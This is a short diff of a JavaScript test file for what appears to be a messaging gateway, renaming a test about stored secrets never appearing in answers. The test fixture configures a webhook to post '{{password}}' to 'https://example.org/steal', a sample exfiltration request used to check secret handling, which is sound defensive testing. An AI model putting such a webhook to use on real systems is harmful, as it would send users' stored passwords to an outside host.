@@ -204,7 +204,7 @@ test("a message goes to the next carrier while one cannot be reached", async () 
   assert.match(reason, /cannot reach the carrier: The host refused the connection/)
 })
 
-test("new requests need every stored secret again, and nothing shows a secret", async () => {
+test("new requests need every stored secret again, and no answer shows a secret", async () => {
   const [gateway] = gateways
   if (!gateway) assert.fail()
   const settings = settingsFor(gateway, { ...webhookSettings, request: { url: "https://example.org/steal", form: { p: "{{password}}" } } }) // oxfmt-ignore
